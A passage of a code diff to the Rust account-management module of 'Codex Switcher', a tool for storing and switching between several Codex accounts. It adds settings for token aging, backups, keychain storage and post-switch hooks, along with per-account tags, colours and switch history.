@@ -1,16 +1,27 @@
 //! Codex Switcher - 账号管理模块
 //!
 //! 处理多个 Codex 账号的存储、切换和管理
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::fs;
+use std::hash::{DefaultHasher, Hash, Hasher};
 use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, Ordering};
 
 use chrono::{DateTime, Utc};
+use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
+use crate::auth_journal::{AuthJournal, AuthWriteOp};
+use crate::log_identity::{self, LogIdentifierStyle};
+use crate::oauth::{self, AuthProfile};
+use crate::plan::PlanChange;
+use crate::token_store::{self, TokenBackend, TokenBackendError, TokenStorage};
+use crate::usage::{UsageDisplay, WindowCounts};
+use crate::warnings::{Warning, WarningCode};
+
 /// 应用全局设置
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 pub struct AppSettings {
     /// 是否在切换账号后自动重载 IDE
     #[serde(default)]
@@ -28,7 +39,7 @@ pub struct AppSettings {
     #[serde(default = "default_false")]
     pub background_refresh: bool,
 
-    /// 刷新间隔（分钟）
+    /// 刷新间隔（分钟），范围见 [`REFRESH_INTERVAL_RANGE`]
     #[serde(default = "default_refresh_interval")]
     pub refresh_interval_minutes: u32,
 
@@ -36,6 +47,46 @@ pub struct AppSettings {
     #[serde(default = "default_inactive_refresh_days")]
     pub inactive_refresh_days: u32,
 
+    /// refresh_token 闲置超过这么多天发老化预警（0 = 关闭），见 `token_aging`
+    #[serde(default = "default_refresh_token_aging_days")]
+    pub refresh_token_aging_days: u32,
+
+    /// 老化账号由 scheduler 自动保活刷新；关闭时只提醒、由用户手动刷
+    #[serde(default)]
+    pub aging_auto_keepalive: bool,
+
+    /// 切号预检失败时，缓存超过这么多小时的额度标为"可能过期"
+    #[serde(default = "default_quota_suspect_after_hours")]
+    pub quota_suspect_after_hours: u32,
+
+    /// 新建账号时预填的备注模板（空 = 沿用各入口的固定备注），见 `notes_template`
+    #[serde(default)]
+    pub new_account_notes_template: String,
+
+    /// 5H 额度已用完的号，重置时间在这么多分钟内时仍可被自动选中（周额度用完的一律不选）
+    #[serde(default = "default_five_hour_reset_lookahead_minutes")]
+    pub five_hour_reset_lookahead_minutes: u32,
+
+    /// access_token 剩余不到这么多分钟时列表上标"快过期"（0 = 不标），见 `token_status`
+    #[serde(default = "default_token_expiring_soon_minutes")]
+    pub token_expiring_soon_minutes: u32,
+
+    /// 回收站里的账号放这么多天后自动清掉（0 = 不自动清）
+    #[serde(default = "default_trash_retention_days")]
+    pub trash_retention_days: u32,
+
+    /// 替换式导入前的账号库备份最多留几份（0 = 不自动删），见 `store_backups`
+    #[serde(default = "default_store_backup_keep")]
+    pub store_backup_keep: u32,
+
+    /// 每天自动备份一次账号库到 `backups/`，见 `store_backups`
+    #[serde(default = "default_false")]
+    pub auto_backup: bool,
+
+    /// 自动备份保留天数（0 = 不自动删）
+    #[serde(default = "default_backup_retention_days")]
+    pub backup_retention_days: u32,
+
     /// 界面配色方案
     #[serde(default = "default_theme_palette")]
     pub theme_palette: String,
@@ -64,6 +115,10 @@ pub struct AppSettings {
     #[serde(default)]
     pub proxy_threshold_weekly: u8,
 
+    /// 上面两个阈值的单位：百分比（默认）或剩余次数（见 `below_threshold`）
+    #[serde(default)]
+    pub proxy_threshold_unit: ThresholdUnit,
+
     /// Free 账号保护线（0=不特殊处理，35=剩余<35%时切）
     #[serde(default)]
     pub proxy_free_guard: u8,
@@ -145,6 +200,97 @@ pub struct AppSettings {
     /// 默认 false —— 用订阅号时不会偷偷把请求路由到 Relay 扣余额
     #[serde(default = "default_false")]
     pub relay_auto_switch_in: bool,
+
+    /// 当前账号的 refresh_token 在 ~/.codex/auth.json 被 Codex 轮换、且磁盘 last_refresh
+    /// 更新时，直接采纳磁盘版本（发 token-rotated 事件），不再弹同步冲突
+    #[serde(default = "default_false")]
+    pub auto_adopt_current_rotation: bool,
+
+    /// OAuth 本地回调端口候选，按顺序尝试绑定；必须是 `oauth::ALLOWED_CALLBACK_PORTS` 的子集
+    #[serde(default = "default_oauth_callback_ports")]
+    pub oauth_callback_ports: Vec<u16>,
+
+    /// 开发者选项：在内存里保留每个账号最近几次 usage 接口原始响应（已脱敏），
+    /// 配合 `get_last_usage_response` 排查 `parse_usage_response` 读错字段
+    #[serde(default)]
+    pub debug_capture_responses: bool,
+
+    /// 开发者选项：抓到的响应同时落盘到 `~/.codex-switcher/debug/`（需先开 debug_capture_responses）
+    #[serde(default)]
+    pub debug_capture_dump: bool,
+
+    /// 每天定时发一条所有账号的额度汇总通知
+    #[serde(default)]
+    pub daily_report_enabled: bool,
+
+    /// 每日报告时间，本地时间 "HH:MM"
+    #[serde(default = "default_daily_report_time")]
+    pub daily_report_time: String,
+
+    /// 用户最近这么多秒内操作过界面时，后台调度器推迟本轮同步（0 = 不让路）
+    #[serde(default = "default_scheduler_quiet_secs")]
+    pub scheduler_quiet_secs: u64,
+
+    /// token 存放位置（见 `token_store` 模块）；只能经 `migrate_token_storage` 修改
+    #[serde(default)]
+    pub token_storage: TokenStorage,
+
+    /// Keychain 模式下连同 access_token / id_token 一起放进凭据库（默认只放 refresh_token）
+    #[serde(default)]
+    pub keychain_include_access_tokens: bool,
+
+    /// 自定义 OAuth 配置（企业 issuer 等）；内置的 `openai-default` 不在这里存
+    #[serde(default)]
+    pub auth_profiles: Vec<AuthProfile>,
+
+    /// 切号时把目标账号绑定的 profile 写进 `~/.codex/config.toml`（见 `codex_config`）
+    #[serde(default)]
+    pub apply_profile_on_switch: bool,
+
+    /// 写 profile 时 config.toml 不存在就新建一个最小文件（默认跳过）
+    #[serde(default)]
+    pub create_codex_config_if_missing: bool,
+
+    /// 切号成功后按顺序执行的命令（见 `switch_hooks`）
+    #[serde(default)]
+    pub post_switch_hooks: Vec<crate::switch_hooks::SwitchHook>,
+
+    /// 切号钩子总开关；关掉后所有钩子都不执行
+    #[serde(default = "default_true")]
+    pub post_switch_hooks_enabled: bool,
+
+    /// 手动指定本机 Codex CLI 版本（如 `0.130.0`）；留空则跑 `codex --version` 探测
+    #[serde(default)]
+    pub codex_version_override: String,
+
+    /// 查配额时用的 User-Agent；留空用内置默认，账号自己的 `request_headers` 优先
+    #[serde(default)]
+    pub usage_user_agent: String,
+
+    /// 不自动收紧 ~/.codex/auth.json 及其目录的权限（见 `auth_permissions`）
+    #[serde(default)]
+    pub leave_auth_permissions: bool,
+
+    /// 日志 / 活动流 / 诊断包里账号名、邮箱、account_id 的写法（见 `log_identity`）
+    #[serde(default)]
+    pub log_identifier_style: LogIdentifierStyle,
+
+    /// Codex 配置目录（auth.json、config.toml、sessions 所在）；不填时用 `CODEX_HOME` 环境变量，
+    /// 再不行用 `~/.codex`（见 `paths::codex_dir`）
+    #[serde(default)]
+    pub codex_home: Option<String>,
+
+    /// 除默认安装外登记的 Codex 安装（见 `codex_installs`）
+    #[serde(default)]
+    pub codex_installs: Vec<crate::codex_installs::CodexInstall>,
+}
+
+fn default_scheduler_quiet_secs() -> u64 {
+    30
+}
+
+fn default_daily_report_time() -> String {
+    "09:00".to_string()
 }
 
 fn default_bootstrap_byte_cap() -> usize {
@@ -167,10 +313,53 @@ fn default_refresh_interval() -> u32 {
     30
 }
 
+/// 后台调度间隔允许的范围（分钟）：太短会狂刷后端，太长"后台刷新已开启"形同虚设
+pub const REFRESH_INTERVAL_RANGE: std::ops::RangeInclusive<u32> = 5..=1440;
+
+/// 把调度间隔夹进 [`REFRESH_INTERVAL_RANGE`]
+pub fn clamp_refresh_interval(minutes: u32) -> u32 {
+    minutes.clamp(
+        *REFRESH_INTERVAL_RANGE.start(),
+        *REFRESH_INTERVAL_RANGE.end(),
+    )
+}
+
 fn default_inactive_refresh_days() -> u32 {
     7
 }
 
+fn default_refresh_token_aging_days() -> u32 {
+    30
+}
+
+fn default_quota_suspect_after_hours() -> u32 {
+    24
+}
+
+fn default_five_hour_reset_lookahead_minutes() -> u32 {
+    15
+}
+
+fn default_token_expiring_soon_minutes() -> u32 {
+    30
+}
+
+fn default_trash_retention_days() -> u32 {
+    30
+}
+
+fn default_store_backup_keep() -> u32 {
+    10
+}
+
+fn default_backup_retention_days() -> u32 {
+    14
+}
+
+fn default_oauth_callback_ports() -> Vec<u16> {
+    crate::oauth::ALLOWED_CALLBACK_PORTS.to_vec()
+}
+
 fn default_false() -> bool {
     false
 }
@@ -209,6 +398,46 @@ pub fn should_hot_switch(settings: &AppSettings, proxy_running: bool) -> bool {
     }
 }
 
+/// 预防性切号阈值的单位
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum ThresholdUnit {
+    /// 剩余百分比
+    #[default]
+    Percent,
+    /// 剩余请求次数
+    Count,
+}
+
+impl ThresholdUnit {
+    /// 阈值的展示文本：`10%` / `20 次`
+    pub fn format(self, threshold: u8) -> String {
+        match self {
+            ThresholdUnit::Percent => format!("{}%", threshold),
+            ThresholdUnit::Count => format!("{} 次", threshold),
+        }
+    }
+}
+
+/// 剩余额度是否低于阈值（阈值 0 = 关闭）。按次数时只看接口给出的绝对次数，
+/// 没有绝对次数的账号不按阈值触发，仍由 429 兜底
+pub fn below_threshold(
+    left_percent: f64,
+    counts: &WindowCounts,
+    threshold: u8,
+    unit: ThresholdUnit,
+) -> bool {
+    if threshold == 0 {
+        return false;
+    }
+    match unit {
+        ThresholdUnit::Percent => left_percent < f64::from(threshold),
+        ThresholdUnit::Count => counts
+            .remaining()
+            .is_some_and(|left| left < u64::from(threshold)),
+    }
+}
+
 /// remote_mode="client"：本机不持 token，读/切全走 Server
 pub fn is_remote_client(mode: &str) -> bool {
     mode == "client"
@@ -246,6 +475,16 @@ impl Default for AppSettings {
             background_refresh: false,
             refresh_interval_minutes: default_refresh_interval(),
             inactive_refresh_days: default_inactive_refresh_days(),
+            refresh_token_aging_days: default_refresh_token_aging_days(),
+            aging_auto_keepalive: false,
+            quota_suspect_after_hours: default_quota_suspect_after_hours(),
+            new_account_notes_template: String::new(),
+            five_hour_reset_lookahead_minutes: default_five_hour_reset_lookahead_minutes(),
+            token_expiring_soon_minutes: default_token_expiring_soon_minutes(),
+            trash_retention_days: default_trash_retention_days(),
+            store_backup_keep: default_store_backup_keep(),
+            auto_backup: false,
+            backup_retention_days: default_backup_retention_days(),
             theme_palette: default_theme_palette(),
             allow_auto_switch_to_free: false,
             proxy_enabled: false,
@@ -253,6 +492,7 @@ impl Default for AppSettings {
             proxy_allow_lan: false,
             proxy_threshold_5h: 0,
             proxy_threshold_weekly: 0,
+            proxy_threshold_unit: ThresholdUnit::default(),
             proxy_free_guard: 0,
             notify_on_switch: false,
             inject_switch_message: false,
@@ -272,7 +512,76 @@ impl Default for AppSettings {
             proxy_bootstrap_time_cap_ms: default_bootstrap_time_cap_ms(),
             relay_auto_switch_out: true,
             relay_auto_switch_in: false,
+            auto_adopt_current_rotation: false,
+            oauth_callback_ports: default_oauth_callback_ports(),
+            debug_capture_responses: false,
+            debug_capture_dump: false,
+            daily_report_enabled: false,
+            daily_report_time: default_daily_report_time(),
+            scheduler_quiet_secs: default_scheduler_quiet_secs(),
+            token_storage: TokenStorage::File,
+            keychain_include_access_tokens: false,
+            auth_profiles: Vec::new(),
+            apply_profile_on_switch: false,
+            create_codex_config_if_missing: false,
+            post_switch_hooks: Vec::new(),
+            post_switch_hooks_enabled: true,
+            codex_version_override: String::new(),
+            usage_user_agent: String::new(),
+            leave_auth_permissions: false,
+            log_identifier_style: LogIdentifierStyle::Full,
+            codex_home: None,
+            codex_installs: Vec::new(),
+        }
+    }
+}
+
+impl AppSettings {
+    /// 只导出设置（换机器时用），不带任何账号和 token。远程模式的共享密钥不导出
+    /// （诊断和脱敏导出也都遮掉它）；切号后钩子是本机命令，也不导出
+    pub fn export(&self) -> Result<String, String> {
+        let mut settings = self.clone();
+        settings.remote_shared_secret.clear();
+        settings.post_switch_hooks.clear();
+        serde_json::to_string_pretty(&settings).map_err(|e| format!("导出设置失败: {}", e))
+    }
+
+    /// 解析 [`Self::export`] 的内容。取值超出范围直接报错，不像 `update_settings` 那样悄悄夹紧：
+    /// 文件是别处来的，改了什么应该让人知道。Codex 目录和安装列表是本机路径，沿用 `local` 的；
+    /// 共享密钥和切号后钩子（下次切号就会执行的任意命令）也只认本机的，文件里带了也不采用
+    pub fn import(json: &str, local: &AppSettings) -> Result<Self, String> {
+        let doc: Value = serde_json::from_str(json).map_err(|e| format!("导入设置失败: {}", e))?;
+        if doc.get("accounts").is_some() {
+            return Err("这是账号导出，不是设置导出；账号请走账号导入".to_string());
+        }
+        let mut settings: Self =
+            serde_json::from_value(doc).map_err(|e| format!("导入设置失败: {}", e))?;
+        if !REFRESH_INTERVAL_RANGE.contains(&settings.refresh_interval_minutes) {
+            return Err(format!(
+                "refresh_interval_minutes 须在 {}–{} 之间，导入的是 {}",
+                REFRESH_INTERVAL_RANGE.start(),
+                REFRESH_INTERVAL_RANGE.end(),
+                settings.refresh_interval_minutes
+            ));
         }
+        for (field, value) in [
+            ("quota_refresh_interval", settings.quota_refresh_interval),
+            ("quota_refresh_batch", settings.quota_refresh_batch),
+            ("proxy_port", u32::from(settings.proxy_port)),
+            ("remote_server_port", u32::from(settings.remote_server_port)),
+        ] {
+            if value == 0 {
+                return Err(format!("{} 不能为 0", field));
+            }
+        }
+        if !["off", "server", "client"].contains(&settings.remote_mode.as_str()) {
+            return Err(format!("remote_mode 不认识: {}", settings.remote_mode));
+        }
+        settings.codex_home = local.codex_home.clone();
+        settings.codex_installs = local.codex_installs.clone();
+        settings.remote_shared_secret = local.remote_shared_secret.clone();
+        settings.post_switch_hooks = local.post_switch_hooks.clone();
+        Ok(settings)
     }
 }
 
@@ -280,7 +589,7 @@ impl Default for AppSettings {
 ///
 /// `Legacy` = 旧 store 里没显式标注的账号；运行时按 `auth_json` 里的 token 前缀派生
 /// （`eyJ...` JWT → ChatgptOauth；其它 → OpenaiKey）。新建账号必须显式给 kind。
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
 #[serde(rename_all = "snake_case")]
 pub enum AccountKind {
     /// 旧账号未标注，运行时派生
@@ -300,12 +609,16 @@ impl Default for AccountKind {
 }
 
 /// 单个账号信息
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 pub struct Account {
     /// 唯一标识符
     pub id: String,
     /// 账号名称（用户自定义）
     pub name: String,
+    /// 登录邮箱：存 token 时从 id_token 解出来（见 [`AccountStore::extract_email`]），
+    /// 显示、冲突提示、去重都用它，不用每次渲染再解 JWT。中转站账号和解不出邮箱的为 None
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub email: Option<String>,
     /// auth.json 内容
     pub auth_json: serde_json::Value,
     /// OpenAI refresh_token (用于生成新的 auth_json)
@@ -314,6 +627,12 @@ pub struct Account {
     pub created_at: DateTime<Utc>,
     /// 上次使用时间
     pub last_used: Option<DateTime<Utc>>,
+    /// 累计切到这个号的次数
+    #[serde(default)]
+    pub switch_count: u64,
+    /// 最近几次切到这个号的时间（旧的在前），最多 [`MAX_SWITCH_HISTORY`] 条
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub switch_history: Vec<DateTime<Utc>>,
     /// 备注
     pub notes: Option<String>,
     /// 缓存的配额信息
@@ -398,6 +717,199 @@ pub struct Account {
     /// 绑死单机，跨机同步该字段无意义）。
     #[serde(default, skip_serializing_if = "is_false")]
     pub is_session_anchor: bool,
+
+    /// 颜色标签（`#RRGGBB`，小写）。列表里显示成圆点，托盘按最近的色板 emoji 前缀。
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub color: Option<String>,
+
+    /// 头像 emoji，列表和托盘里显示在名字前（有它时托盘不再加颜色圆点）。见 [`normalize_avatar_emoji`]
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub avatar_emoji: Option<String>,
+
+    /// 最近一次检测到的套餐变更（刷新额度时 plan_type 和上次不同）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub last_plan_change: Option<PlanChange>,
+
+    /// Keychain 模式下 token 在系统凭据库里的条目名。内存里只有读取失败
+    /// （钥匙串锁定等）的账号才保留它，见 `AccountStore::hydrate_tokens_with`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub token_ref: Option<String>,
+
+    /// 登录时所用 OAuth profile 的 id，刷新 token 一直走它的 token 端点。
+    /// 缺省（包括这个字段出现之前的老账号）即内置 `openai-default`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub auth_profile_id: Option<String>,
+
+    /// refresh_token 最近一次成功换到新 token 的时间（任何刷新路径）。
+    /// 老账号没有这个字段，闲置计算时退回 `last_refresh`，见 `token_aging`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub refresh_token_used_at: Option<DateTime<Utc>>,
+
+    /// 切到这个号时写进 `~/.codex/config.toml` 顶层 `profile` 的名字
+    /// （config.toml 里 `[profiles.<名字>]`），需开 `apply_profile_on_switch`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub codex_profile: Option<String>,
+
+    /// 查配额时额外带的请求头（部分托管工作区要求特定 User-Agent，见 `request_headers`）
+    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
+    pub request_headers: std::collections::BTreeMap<String, String>,
+
+    /// 分组标签（个人 / 工作 / 团队共用……），列表按标签过滤。规范化见 [`normalize_tags`]
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+
+    /// 结构化的键值备注（team: infra、owner: alice……），前端显示成小标签并可按它过滤。
+    /// 键经 [`normalize_metadata_key`] 规范化，条数和长度有上限
+    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
+    pub metadata: std::collections::BTreeMap<String, String>,
+
+    /// 置顶：列表里排在最前面
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub pinned: bool,
+
+    /// 受保护：不能删除，也不能被"用当前 auth.json 覆盖"之类的手动同步改写 token，
+    /// 切号照常。取消保护要走一次性确认（见 `set_account_protected` 命令）。
+    /// 刷新 / 回流吸收同一身份轮换出来的新 token 不受影响，否则旧 refresh_token 作废后号就废了
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub protected: bool,
+
+    /// 已归档：token 照常保留（保活也照常），但不能切过去、不参与自动选号、
+    /// 批量 / 后台刷额度跳过、不做同步冲突检测。列表里照常返回，由前端单独分组
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub archived: bool,
+
+    /// 手动排序的位置（小的在前）；没排过的为 None，排在有位置的后面按新建时间。
+    /// 见 [`Account::display_order`]
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub sort_index: Option<u32>,
+
+    /// 最近一次修改时间（增量加载用）。老账号没有这个字段，按 `created_at` 算，
+    /// 见 [`Account::modified_at`]
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub updated_at: Option<DateTime<Utc>>,
+}
+
+/// 每个账号保留的切换历史条数
+pub const MAX_SWITCH_HISTORY: usize = 50;
+
+/// 单个标签最多这么多字符
+pub const MAX_TAG_CHARS: usize = 32;
+
+/// 规范化标签：去首尾空白、丢空串、按不区分大小写去重（保留先出现的写法和顺序）
+pub fn normalize_tags(raw: Vec<String>) -> Result<Vec<String>, String> {
+    let mut tags: Vec<String> = Vec::new();
+    for tag in raw {
+        let tag = tag.trim();
+        if tag.is_empty() {
+            continue;
+        }
+        if tag.chars().count() > MAX_TAG_CHARS {
+            return Err(format!(
+                "标签过长（最多 {} 个字符）: {}",
+                MAX_TAG_CHARS, tag
+            ));
+        }
+        if !tags.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
+            tags.push(tag.to_string());
+        }
+    }
+    Ok(tags)
+}
+
+/// 每个账号最多这么多条键值备注
+pub const MAX_METADATA_ENTRIES: usize = 32;
+/// 键值备注的键最多这么多字符
+pub const MAX_METADATA_KEY_CHARS: usize = 32;
+/// 键值备注的值最多这么多字节
+pub const MAX_METADATA_VALUE_BYTES: usize = 256;
+
+/// 规范化键值备注的键：去首尾空白、转小写，不能为空
+pub fn normalize_metadata_key(raw: &str) -> Result<String, String> {
+    let key = raw.trim().to_lowercase();
+    if key.is_empty() {
+        return Err("键不能为空".to_string());
+    }
+    if key.chars().count() > MAX_METADATA_KEY_CHARS {
+        return Err(format!(
+            "键过长（最多 {} 个字符）: {}",
+            MAX_METADATA_KEY_CHARS, key
+        ));
+    }
+    Ok(key)
+}
+
+/// 校验并规范化颜色：只接受 `#RRGGBB`（不展开 `#RGB` 简写），统一转小写
+pub fn normalize_hex_color(raw: &str) -> Result<String, String> {
+    let hex = raw
+        .strip_prefix('#')
+        .ok_or_else(|| format!("颜色需为 #RRGGBB 格式: {}", raw))?;
+    if hex.len() != 6 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
+        return Err(format!("颜色需为 #RRGGBB 格式: {}", raw));
+    }
+    Ok(format!("#{}", hex.to_ascii_lowercase()))
+}
+
+/// 新建 OAuth 账号自动分配的颜色，和托盘的圆点色板一一对应（黑白两色除外）
+pub const ACCOUNT_COLOR_PALETTE: [&str; 7] = [
+    "#dd2e44", "#f4900c", "#fdcb58", "#78b159", "#55acee", "#aa8ed6", "#c1694f",
+];
+
+/// 头像 emoji 最多这么多个码点（带肤色 / ZWJ 组合的 emoji 由多个码点组成）
+pub const MAX_AVATAR_CHARS: usize = 8;
+
+/// 校验头像 emoji：去首尾空白，空串为 None；不能含空白和 ASCII 字母数字（防止填成名字）
+pub fn normalize_avatar_emoji(raw: &str) -> Result<Option<String>, String> {
+    let emoji = raw.trim();
+    if emoji.is_empty() {
+        return Ok(None);
+    }
+    if emoji.chars().count() > MAX_AVATAR_CHARS
+        || emoji
+            .chars()
+            .any(|c| c.is_whitespace() || c.is_ascii_alphanumeric())
+    {
+        return Err(format!("头像需为单个 emoji: {}", emoji));
+    }
+    Ok(Some(emoji.to_string()))
+}
+
+/// 判断重名用的键：去首尾空白、转小写
+fn name_key(name: &str) -> String {
+    name.trim().to_lowercase()
+}
+
+/// 去掉名字末尾的 ` (n)` 序号
+fn name_base(name: &str) -> &str {
+    let Some(inner) = name.strip_suffix(')') else {
+        return name;
+    };
+    match inner.rfind(" (") {
+        Some(open)
+            if inner.len() > open + 2 && inner[open + 2..].bytes().all(|b| b.is_ascii_digit()) =>
+        {
+            &name[..open]
+        }
+        _ => name,
+    }
+}
+
+/// `wanted` 没被占用就原样返回，否则从 ` (2)` 起找第一个空着的序号
+fn unique_name(wanted: &str, taken: &HashSet<String>) -> String {
+    if !taken.contains(&name_key(wanted)) {
+        return wanted.to_string();
+    }
+    let base = name_base(wanted.trim());
+    (2..)
+        .map(|n| format!("{} ({})", base, n))
+        .find(|candidate| !taken.contains(&name_key(candidate)))
+        .expect("序号用不完")
+}
+
+/// 解析已规范化的 `#RRGGBB` 为 RGB 分量
+pub fn parse_hex_color(color: &str) -> Option<(u8, u8, u8)> {
+    let hex = normalize_hex_color(color).ok()?;
+    let channel = |i: usize| u8::from_str_radix(&hex[i..i + 2], 16).ok();
+    Some((channel(1)?, channel(3)?, channel(5)?))
 }
 
 fn is_false(b: &bool) -> bool {
@@ -405,6 +917,45 @@ fn is_false(b: &bool) -> bool {
 }
 
 impl Account {
+    /// 记一次修改
+    pub fn touch(&mut self) {
+        self.updated_at = Some(Utc::now());
+    }
+
+    /// token 换了之后重新解登录邮箱；新 token 里解不出来时保留原来的
+    pub fn refresh_email(&mut self) {
+        if let Some(email) = AccountStore::extract_email(&self.auth_json) {
+            self.email = Some(email);
+        }
+    }
+
+    /// 登录邮箱是不是 `email`（不区分大小写）；没记邮箱的老账号现解 token
+    pub fn has_email(&self, email: &str) -> bool {
+        self.email
+            .clone()
+            .or_else(|| AccountStore::extract_email(&self.auth_json))
+            .is_some_and(|e| e.to_lowercase() == email.to_lowercase())
+    }
+
+    /// 记一次切到这个号：更新 `last_used`、计数和历史
+    pub fn record_switch(&mut self, at: DateTime<Utc>) {
+        self.last_used = Some(at);
+        self.switch_count += 1;
+        self.switch_history.push(at);
+        self.trim_switch_history();
+    }
+
+    /// 历史只留最近 [`MAX_SWITCH_HISTORY`] 条
+    fn trim_switch_history(&mut self) {
+        let excess = self.switch_history.len().saturating_sub(MAX_SWITCH_HISTORY);
+        self.switch_history.drain(..excess);
+    }
+
+    /// 最近修改时间；没记过的按创建时间
+    pub fn modified_at(&self) -> DateTime<Utc> {
+        self.updated_at.unwrap_or(self.created_at)
+    }
+
     /// 取 `relay_protocol`，未设置时返回 `"responses"`。
     pub fn relay_protocol_or_default(&self) -> &str {
         self.relay_protocol.as_deref().unwrap_or("responses")
@@ -422,16 +973,71 @@ impl Account {
         }
     }
 
+    /// 写入新的额度缓存；plan_type 和上一份不同时记到 `last_plan_change` 并返回这次变更
+    pub fn set_cached_quota(&mut self, quota: CachedQuota) -> Option<PlanChange> {
+        let old_plan = self.cached_quota.as_ref().map(|q| q.plan_type.as_str());
+        let change = crate::plan::detect_change(old_plan, &quota.plan_type, quota.updated_at);
+        if let Some(change) = &change {
+            println!(
+                "[Plan] {} 套餐变更: {} → {}",
+                log_identity::id(&self.name),
+                change.old_plan,
+                change.new_plan
+            );
+            self.last_plan_change = Some(change.clone());
+        }
+        self.cached_quota = Some(quota);
+        self.touch();
+        change
+    }
+
     /// 是否走 ChatGPT 订阅那条路径（chatgpt.com/backend-api/codex）
     pub fn is_chatgpt_oauth(&self) -> bool {
         self.effective_kind() == AccountKind::ChatgptOauth
     }
 
+    /// 列表的默认顺序：置顶在前，再按手动位置，最后按新建时间倒序
+    pub fn display_order(a: &Account, b: &Account) -> std::cmp::Ordering {
+        b.pinned
+            .cmp(&a.pinned)
+            .then_with(|| match (a.sort_index, b.sort_index) {
+                (Some(x), Some(y)) => x.cmp(&y),
+                (Some(_), None) => std::cmp::Ordering::Less,
+                (None, Some(_)) => std::cmp::Ordering::Greater,
+                (None, None) => std::cmp::Ordering::Equal,
+            })
+            .then_with(|| b.created_at.cmp(&a.created_at))
+    }
+
+    /// 是否带任一给定标签（不区分大小写）；`tags` 为空时总是 true
+    pub fn has_any_tag(&self, tags: &[String]) -> bool {
+        tags.is_empty()
+            || tags.iter().any(|want| {
+                self.tags
+                    .iter()
+                    .any(|t| t.eq_ignore_ascii_case(want.trim()))
+            })
+    }
+
+    /// 最近一次配额查询确认套餐不含 Codex（再次查到窗口数据后自动恢复）
+    pub fn lacks_codex_access(&self) -> bool {
+        self.cached_quota
+            .as_ref()
+            .map(|q| !q.codex_available)
+            .unwrap_or(false)
+    }
+
     /// 是否中转站账号
     pub fn is_relay(&self) -> bool {
         self.effective_kind() == AccountKind::Relay
     }
 
+    /// 是否 API key 形态的官方账号（auth.json 只有 `OPENAI_API_KEY`，见
+    /// [`AccountStore::extract_api_key`]）：没有 token 可刷新 / 回流，也查不了 ChatGPT 额度
+    pub fn is_api_key(&self) -> bool {
+        !self.is_relay() && AccountStore::extract_api_key(&self.auth_json).is_some()
+    }
+
     /// 把账号转成 codex 认识的 auth.json schema。
     ///
     /// 关键差异：
@@ -461,7 +1067,7 @@ impl Account {
     }
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 pub struct KeepaliveState {
     /// 是否允许调度器为该账号执行“非活跃保活刷新”
     #[serde(default = "default_true")]
@@ -475,6 +1081,9 @@ pub struct KeepaliveState {
     /// 最近一次保活错误
     #[serde(default)]
     pub last_error: Option<String>,
+    /// 刷新禁令：refresh_token 被判定重复使用后挂上，重新登录前任何路径都不再刷新（见 `refresh_ban`）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub refresh_ban: Option<RefreshBan>,
 }
 
 impl Default for KeepaliveState {
@@ -484,12 +1093,20 @@ impl Default for KeepaliveState {
             last_attempt_at: None,
             last_success_at: None,
             last_error: None,
+            refresh_ban: None,
         }
     }
 }
 
+/// 账号的刷新禁令
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, JsonSchema)]
+pub struct RefreshBan {
+    pub banned_at: DateTime<Utc>,
+    pub reason: String,
+}
+
 /// 中转站账号的余额缓存（与 `CachedQuota` 平行；语义上一个是 USD 余额，一个是 5h+周窗口）
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 pub struct RelayUsageCache {
     /// 剩余额度（原始数值；单位看 `unit`）
     pub remaining: f64,
@@ -505,7 +1122,7 @@ pub struct RelayUsageCache {
 }
 
 /// 缓存的配额信息
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 pub struct CachedQuota {
     pub five_hour_left: f64,
     pub five_hour_reset: String,
@@ -520,97 +1137,352 @@ pub struct CachedQuota {
     pub plan_type: String,
     #[serde(default = "default_true")]
     pub is_valid_for_cli: bool,
+    /// 套餐是否包含 Codex；false 的账号不参与后台轮询 / 自动选号 / 故障切换
+    #[serde(default = "default_true")]
+    pub codex_available: bool,
     pub updated_at: DateTime<Utc>,
+    /// plan_type 的展示名；旧数据没有此字段时为空，前端回退到原始值
+    #[serde(default)]
+    pub display_plan: String,
+    /// 这份缓存是哪条路径写的；旧数据没有此字段时按手动刷新处理
+    #[serde(default)]
+    pub source: QuotaSource,
+    /// 5H 窗口的绝对次数（接口给了才有）
+    #[serde(default)]
+    pub five_hour_counts: WindowCounts,
+    /// 周窗口的绝对次数
